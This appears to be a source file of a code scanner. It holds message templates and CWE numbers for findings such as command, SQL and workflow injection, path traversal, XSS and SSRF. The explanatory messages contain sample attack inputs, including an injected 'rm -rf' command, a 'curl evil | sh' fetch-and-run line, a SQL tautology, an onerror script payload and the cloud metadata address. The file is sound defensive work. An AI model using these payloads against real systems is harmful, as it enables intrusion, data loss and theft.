// Message templates of the security perspective. Every placeholder is filled from what was found:
// the sink called, the input that reaches it, the path from source to sink, the argument's text.
import type { MessageTemplate } from '../types.js'

export type SecurityMessageId =
  | 'codeInjection'
  | 'commandInjection'
  | 'sqlInjection'
  | 'pathTraversal'
  | 'prototypePollution'
  | 'xss'
  | 'ssrf'
  | 'unsafeDeserialisation'
  | 'weakHash'
  | 'weakCipher'
  | 'insecureRandom'
  | 'tlsVerificationDisabled'
  | 'hardcodedSecret'
  | 'workflowInjection'
  | 'pullRequestTargetCheckout'
  | 'redosOnInput'
  | 'openRedirect'
  | 'argumentInjection'
  | 'pathPrefixCheck'
  | 'pathDecodedAfterCheck'

export const MESSAGES: Record<SecurityMessageId, MessageTemplate> = {
  codeInjection: {
    title: '{{sink}} runs code built from {{input}} in {{function}}',
    message:
      "{{function}} passes `{{arg}}` to {{sink}}{{path}}; text that reaches it runs as {{language}} code with the program's rights."
  },
  commandInjection: {
    title: '{{sink}} runs a shell command built from {{input}} in {{function}}',
    message:
      '{{function}} passes `{{arg}}` to {{sink}} {{how}}{{path}}; a value like `; rm -rf /tmp/x` becomes a second command. Pass the arguments as a list without a shell.'
  },
  sqlInjection: {
    title: 'SQL built by {{build}} from {{input}} reaches {{sink}} in {{function}}',
    message:
      "{{function}} builds the query `{{arg}}` by {{build}} and passes it to {{sink}}{{path}}; a value like `' OR 1=1 --` changes the query. Use placeholders and pass the values apart."
  },
  pathTraversal: {
    title: '{{sink}} opens a path built from {{input}} in {{function}}',
    message:
      '{{function}} passes `{{arg}}` to {{sink}}{{path}} and checks nowhere in the function that the result stays inside its root ({{lookedFor}}); `../../etc/passwd` walks out of it.'
  },
  prototypePollution: {
    title: '{{function}} writes keys from its input without a prototype guard',
    message:
      '{{function}} {{evidence}} and {{guard}}; a payload like `{ "__proto__": { "polluted": true } }` writes to Object.prototype.'
  },
  xss: {
    title: '{{sink}} receives HTML built from {{input}} in {{function}}',
    message:
      '{{function}} puts `{{arg}}` into {{sink}}{{path}} without escaping; `<img src=x onerror=alert(1)>` runs script in the page.'
  },
  argumentInjection: {
    title:
      '{{sink}} takes an argument from {{input}} that can be read as an option in {{function}}',
    message:
      '{{function}} puts `{{arg}}` into the argument list of {{sink}} with no `--` before it{{path}}; a value like `--upload-pack=touch /tmp/x` or `-oProxyCommand=…` is read as an option and runs a command. Put `--` before it or reject values that start with `-`.'
  },
  openRedirect: {
    title: '{{sink}} redirects to a URL built from {{input}} in {{function}}',
    message:
      '{{function}} passes `{{arg}}` to {{sink}}{{path}} with no same-origin or allow-list check in the function; {{example}} sends users to another site from a link on this one.'
  },
  ssrf: {
    title: '{{sink}} requests a URL from {{input}} in {{function}}',
    message:
      '{{function}} passes `{{arg}}` to {{sink}}{{path}} with no host allow-list check in the function; a caller can make the server fetch internal addresses such as http://169.254.169.254/.'
  },
  unsafeDeserialisation: {
    title: '{{sink}} deserialises {{input}} in {{function}}',
    message:
      '{{function}} calls {{sink}} on `{{arg}}`{{path}}; {{why}} Use a data-only format (JSON, yaml.safe_load / SafeLoader).'
  },
  weakHash: {
    title: '{{algorithm}} hashes {{subject}} in {{function}}',
    message:
      '{{function}} uses {{algorithm}} ({{sink}}) where {{subject}} is involved; {{algorithm}} is fast and broken, so {{advice}}'
  },
  weakCipher: {
    title: '{{sink}} uses the weak cipher setting {{algorithm}} in {{function}}',
    message:
      '{{function}} calls {{sink}} with {{algorithm}}: {{why}} Use AES-GCM (or ChaCha20-Poly1305) with a random IV per message.'
  },
  insecureRandom: {
    title: '{{sink}} makes {{subject}} in {{function}}',
    message:
      '{{function}} uses {{sink}} for {{subject}}; its output is predictable from a few samples. Use {{replacement}}.'
  },
  tlsVerificationDisabled: {
    title: 'TLS certificate checks are switched off ({{setting}}) in {{function}}',
    message:
      '{{function}} sets {{setting}}, so any certificate is accepted and a network attacker can read and change the traffic.'
  },
  hardcodedSecret: {
    title: 'Hard-coded {{kind}} ({{masked}}) in {{where}}',
    message:
      '{{where}} holds a {{kind}} written in the source ({{masked}}, {{length}} characters{{detail}}); anyone with the code has it. Revoke it and read it from the environment or a secret store.'
  },
  workflowInjection: {
    title: '{{expression}} is expanded inside run: in {{file}}',
    message:
      'Step {{step}} of job {{job}} puts `{{expression}}` into its shell script; {{who}} controls that text, so `"; curl evil | sh #` runs as code{{privilege}}. Pass it through env: and read "$VAR".'
  },
  redosOnInput: {
    title:
      'Regular expression {{pattern}} applied to {{input}} can backtrack {{complexity}} in {{function}}',
    message:
      '{{function}} matches `{{subject}}` against {{pattern}} in {{sink}}{{path}}; recheck found that an input like {{attack}} makes it backtrack {{complexity}}, so {{effect}} Limit the input length before matching or rewrite the pattern so that no two quantifiers can match the same text.'
  },
  pathPrefixCheck: {
    title: '{{function}} tests that a path starts with {{root}}, which ends without a separator',
    message:
      '{{function}} checks `{{condition}}`, and {{root}} holds `{{value}}`, which ends without a separator; a sibling folder whose name starts with the same text (`<root>-private/secret` beside `<root>`) passes the check. Compare against the root with a separator appended, or use path.relative and reject results that start with `..`.'
  },
  pathDecodedAfterCheck: {
    title: '{{function}} decodes {{name}} with {{decoder}} after normalising it',
    message:
      '{{function}} normalises {{name}} on line {{line}} (`{{normalised}}`) and decodes it with {{decoder}} afterwards; an encoded `%2e%2e%2f` is no `..` segment when normalised and becomes `../` after decoding. Decode first, then normalise and check the result.'
  },
  pullRequestTargetCheckout: {
    title: 'pull_request_target checks out the pull request head in {{file}}',
    message:
      '{{file}} runs on pull_request_target (base repository secrets, write token) and job {{job}} checks out `{{ref}}`, so code from any fork runs with those privileges.'
  }
}

/** CWE of each kind of finding. */
export const CWE: Record<SecurityMessageId, string> = {
  codeInjection: 'CWE-95',
  commandInjection: 'CWE-78',
  sqlInjection: 'CWE-89',
  pathTraversal: 'CWE-22',
  prototypePollution: 'CWE-1321',
  xss: 'CWE-79',
  ssrf: 'CWE-918',
  unsafeDeserialisation: 'CWE-502',
  weakHash: 'CWE-328',
  weakCipher: 'CWE-327',
  insecureRandom: 'CWE-338',
  tlsVerificationDisabled: 'CWE-295',
  hardcodedSecret: 'CWE-798',
  workflowInjection: 'CWE-94',
  pullRequestTargetCheckout: 'CWE-829',
  redosOnInput: 'CWE-1333',
  openRedirect: 'CWE-601',
  argumentInjection: 'CWE-88',
  pathPrefixCheck: 'CWE-22',
  pathDecodedAfterCheck: 'CWE-22'
}
